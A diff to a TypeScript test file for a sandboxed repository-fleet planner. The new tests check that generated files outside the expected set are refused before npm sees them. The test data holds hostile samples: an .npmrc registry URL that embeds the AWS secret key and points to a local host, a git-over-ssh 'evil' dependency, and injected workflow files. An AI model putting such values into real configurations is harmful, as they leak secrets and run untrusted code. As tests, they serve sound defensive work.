@@ -1,6 +1,6 @@
 import { NOW } from '@pgplatform/test-kit';
 import { planFleet } from '../../src/plan';
-import { sandboxTool } from '../../src/sandbox/sandbox-tool';
+import { requireSandbox } from '../../src/sandbox/sandbox-tool';
 import { fakeNpm } from '../plan/fake-npm';
 import { ReadOnlyGitHub } from '../plan/read-only-github';
 import { CONFIG, madeBy, repositoryOn } from '../plan/repositories';
@@ -34,8 +34,8 @@ const older = (code: string) => ({
   'dump.sql': { text: 'x', size: 50 << 20 },
 });
 
-async function isolated(code: string) {
-  const github = new ReadOnlyGitHub({ own: { files: older(code) }, plain: { files: repositoryOn('2026.07') } });
+async function isolated(code: string, more: Record<string, string> = {}) {
+  const github = new ReadOnlyGitHub({ own: { files: { ...older(code), ...more } }, plain: { files: repositoryOn('2026.07') } });
   const npm = fakeNpm(0, '', MODULES);
   const env = { ...npm.env, GH_TOKEN: 'ghp_marker0123456789' };
   const options = { isolate: true, now: NOW, env, note: () => {} };
@@ -46,7 +46,7 @@ async function isolated(code: string) {
 
 function missing(): string | undefined {
   try {
-    sandboxTool();
+    requireSandbox();
     return undefined;
   } catch (error) {
     return (error as Error).message;
@@ -86,7 +86,7 @@ if (why !== undefined) {
     [
       'lists a path that leads out',
       `${HONEST} write('.projen/files.json', JSON.stringify({ files: ['../../out'] }));`,
-      /lists what is no path/,
+      /it generated what is no path/,
     ],
     ['damages its model', `${HONEST} write('.pgplatform/model.json', '[]');`, /in the sandbox: /],
   ])('one that %s fails in one line, and the others go on', async (_, code, reason) => {
@@ -94,5 +94,30 @@ if (why !== undefined) {
     expect(own).toMatchObject({ action: 'failed', reason: expect.stringMatching(reason) });
     expect(own.reason).toMatch(/^its \.projenrc\.ts in the sandbox: /);
     expect(plain.action).toBe('none');
+  });
+
+  const generates = (path: string, text: string) =>
+    `${HONEST} list.files.push('${path}'); write('.projen/files.json', JSON.stringify(list)); write('${path}', ${JSON.stringify(text)});`;
+  test.each([
+    ['.npmrc', 'registry=http://127.0.0.1:9/${AWS_SECRET_ACCESS_KEY}/\ngit=/path/of/a/script\n'],
+    ['package.json', '{"name":"payments-db","devDependencies":{"evil":"git+ssh://127.0.0.1/evil.git"}}'],
+    ['.github/workflows/evil.yml', 'on: push\n'],
+    ['.GitHub/workflows/evil.yml', 'on: push\n'],
+  ])('a %s that is not what these packages generate is refused, and npm never sees it', async (path, text) => {
+    const { own, plain, npm } = await isolated(generates(path, text));
+    expect(own).toMatchObject({
+      action: 'blocked',
+      reason: expect.stringContaining(`a ${path} that is not what these packages`),
+    });
+    expect(plain.action).toBe('none');
+    expect(npm.calls().flatMap(({ files }) => files)).not.toContain('.npmrc');
+    expect(JSON.stringify(npm.calls())).not.toContain('evil');
+  });
+
+  test('a workflow that is in the repository as it is stays in it', async () => {
+    const workflow = { '.github/workflows/theirs.yml': 'on: pull_request\n' };
+    const { own } = await isolated(generates('.github/workflows/theirs.yml', 'on: pull_request\n'), workflow);
+    expect(own.action).toBe('change');
+    expect(own.files?.map(({ path }) => path)).not.toContain('.github/workflows/theirs.yml');
   });
 }
